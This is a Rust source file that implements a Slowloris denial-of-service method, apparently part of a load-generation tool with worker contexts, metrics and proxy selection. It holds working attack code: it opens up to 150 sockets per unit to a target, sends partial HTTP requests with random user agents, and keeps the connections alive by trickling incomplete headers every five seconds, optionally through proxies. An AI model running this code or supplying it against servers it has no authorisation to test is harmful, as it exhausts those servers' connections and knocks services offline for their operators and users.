use std::os::fd::AsRawFd;
use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use worker_core::dispatch::LoadMethod;
use worker_core::{ResourceHandle, WorkerCtx};

use crate::headers::random_user_agent;

const MAX_SOCKETS: usize = 150;
const TOPUP_INTERVAL: Duration = Duration::from_secs(5);

fn target_host_port(target: &str, https: bool) -> (String, u16) {
    let stripped = target
        .trim_start_matches("https://")
        .trim_start_matches("http://");
    let host_part = stripped.split('/').next().unwrap_or(stripped);
    let default_port = if https { 443 } else { 80 };
    match host_part.rsplit_once(':') {
        Some((h, p)) => (h.to_string(), p.parse().unwrap_or(default_port)),
        None => (host_part.to_string(), default_port),
    }
}

fn request_path(target: &str) -> String {
    let stripped = target
        .trim_start_matches("https://")
        .trim_start_matches("http://");
    match stripped.find('/') {
        Some(idx) => stripped[idx..].to_string(),
        None => "/".to_string(),
    }
}

/// Opens up to 150 sockets per worker unit to the target, sends a partial
/// request line, then trickles one more incomplete header every 5s to every
/// still-open socket; sockets that fail to write are evicted. All sockets
/// close on exit.
pub struct SlowLoris;

#[async_trait]
impl LoadMethod for SlowLoris {
    async fn run_unit(&self, ctx: Arc<WorkerCtx>) -> Result<(), String> {
        let https = ctx.target.starts_with("https://");
        let (host, port) = target_host_port(&ctx.target, https);
        let path = request_path(&ctx.target);
        let connect_target = match ctx.pick_proxy() {
            Some(proxy) => (proxy.host.clone(), proxy.port),
            None => (host.clone(), port),
        };

        let mut sockets: Vec<(TcpStream, ResourceHandle)> = Vec::with_capacity(MAX_SOCKETS);
        for _ in 0..MAX_SOCKETS {
            if !ctx.should_continue() {
                break;
            }
            match tokio::select! {
                _ = ctx.stop.cancelled() => break,
                res = TcpStream::connect(connect_target.clone()) => res,
            } {
                Ok(mut stream) => {
                    let req = format!(
                        "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\n",
                        random_user_agent()
                    );
                    ctx.metrics.events_sent.inc();
                    if stream.write_all(req.as_bytes()).await.is_ok() {
                        ctx.metrics.bytes_sent.inc_by(req.len() as u64);
                        ctx.metrics.successes.inc();
                        let handle = ctx.resources.register_socket(stream.as_raw_fd());
                        sockets.push((stream, handle));
                    } else {
                        ctx.metrics.failures.inc();
                    }
                }
                Err(_) => {
                    ctx.metrics.failures.inc();
                }
            }
        }

        let mut header_id: u64 = 0;
        while ctx.should_continue() && !sockets.is_empty() {
            tokio::select! {
                _ = ctx.stop.cancelled() => break,
                _ = tokio::time::sleep(TOPUP_INTERVAL) => {}
            }
            if !ctx.should_continue() {
                break;
            }
            header_id += 1;
            let line = format!("X-a: {header_id}\r\n");
            let mut still_open = Vec::with_capacity(sockets.len());
            for (mut sock, handle) in sockets {
                if sock.write_all(line.as_bytes()).await.is_ok() {
                    ctx.metrics.bytes_sent.inc_by(line.len() as u64);
                    still_open.push((sock, handle));
                }
            }
            sockets = still_open;
        }

        for (mut sock, _handle) in sockets {
            let _ = sock.shutdown().await;
        }
        Ok(())
    }
}
